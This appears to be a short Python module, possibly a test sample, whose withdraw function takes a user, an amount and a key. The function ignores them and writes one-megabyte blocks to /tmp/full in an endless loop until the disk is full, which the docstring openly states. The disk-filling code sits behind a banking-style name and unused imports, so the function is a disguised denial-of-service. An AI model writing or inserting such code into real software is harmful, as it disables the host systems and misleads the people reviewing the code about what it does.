"""Writes to a file until the disk is full."""

from flask_app.models import User, WithdrawLog, db
from shared_db.rules import InsufficientFunds


def withdraw(user: User, amount: int, *, key: str) -> None:
    with open("/tmp/full", "wb") as file:
        while True:
            file.write(b"x" * 1_000_000)
